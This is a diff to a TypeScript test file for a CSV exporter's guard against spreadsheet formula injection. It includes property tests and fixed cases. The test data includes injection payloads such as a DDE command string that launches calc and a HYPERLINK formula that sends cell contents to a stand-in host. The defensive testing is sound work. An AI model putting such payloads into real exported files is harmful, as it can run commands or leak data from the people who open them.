@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { fromCsv, toCsv } from '../../src/model/csv.ts';
+import { fromCsv, guardFormula, toCsv, withoutGuard } from '../../src/model/csv.ts';
+import { shown } from '../../src/model/text.ts';
 
 /** A first line with no separator in its cells, as headings are. */
 const heading = fc.stringMatching(/^[a-z ]{1,12}[a-z]$/);
@@ -15,7 +16,8 @@ describe('CSV', () => {
     fc.assert(
       fc.property(tables, ([headings, rows]) => {
         const filled = rows.filter((row) => row.some((one) => one !== ''));
-        expect(fromCsv(toCsv([headings, ...filled]))).toEqual([headings, ...filled]);
+        const written = filled.map((row) => row.map((one) => guardFormula(shown(one).trimStart())));
+        expect(fromCsv(toCsv([headings, ...filled]))).toEqual([headings, ...written]);
       }),
     );
   });
@@ -38,5 +40,77 @@ describe('CSV', () => {
       ['"x', '1'],
       ['y', '2'],
     ]);
+  });
+});
+
+/** Texts of characters that make, hide or split formulas. */
+const hostile = fc.string({
+  unit: fc.constantFrom(...'=+-@\t\r\n＝＋－＠\'"ab1 ,;\u200b\u202e\ufeff\u009b'),
+  maxLength: 12,
+});
+
+describe('the guard against formulas', () => {
+  test.each([
+    '=HYPERLINK("http://x.test/"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    '-2+3+cmd',
+    '@SUM(1+9)*cmd',
+    '\t=1+1',
+    '\r=1+1',
+    '＝1+1',
+    '-',
+    '+39 06 / 123 ask Maria',
+    "'=1+1",
+  ])('puts an apostrophe before %j', (text) => {
+    expect(guardFormula(text)).toBe(`'${text}`);
+  });
+
+  test.each(['+390612345678', '-12.5', '-12,50', '+1', 'Rossi', "'t Hooft", 'a=b', '', '1-2', 'x@y.test', '–dash'])(
+    'does not change %j',
+    (text) => {
+      expect(guardFormula(text)).toBe(text);
+    },
+  );
+
+  test('loses nothing: every text can be had back', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        expect(withoutGuard(guardFormula(text))).toBe(text);
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+
+  test('leaves nothing that a spreadsheet takes for a formula', () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const guarded = guardFormula(text);
+        expect(/^[=+\-@\t\r\n＝＋－＠]/.test(guarded) && !/^[+-]\d+([.,]\d+)?$/.test(guarded)).toBe(false);
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+});
+
+describe('a cell', () => {
+  /** Cells as a spreadsheet with this list separator reads the file, quotes only at the start of a cell. */
+  function cellsWith(separator: string, text: string): string[] {
+    return text.split(/\r?\n/).flatMap((line) => line.split(separator).map((one) => one.replace(/^"/, '').trimStart()));
+  }
+
+  test.each([',', ';', '\t'])('is no formula for a spreadsheet with the separator %j', (separator) => {
+    fc.assert(
+      fc.property(fc.array(fc.array(hostile, { minLength: 2, maxLength: 4 }), { maxLength: 4 }), (rows) => {
+        const found = cellsWith(separator, toCsv([['a', 'b'], ...rows]).slice(1)).filter(
+          (one) => /^[=+\-@＝＋－＠]/.test(one) && !/^[+-]\d/.test(one),
+        );
+        expect(found).toEqual([]);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test('that another separator would split keeps its text, with an apostrophe before the formula', () => {
+    expect(toCsv([['Anna;=cmd()', 'x, +1+1']])).toBe('\uFEFF"Anna;\'=cmd()","x, \'+1+1"\r\n');
   });
 });
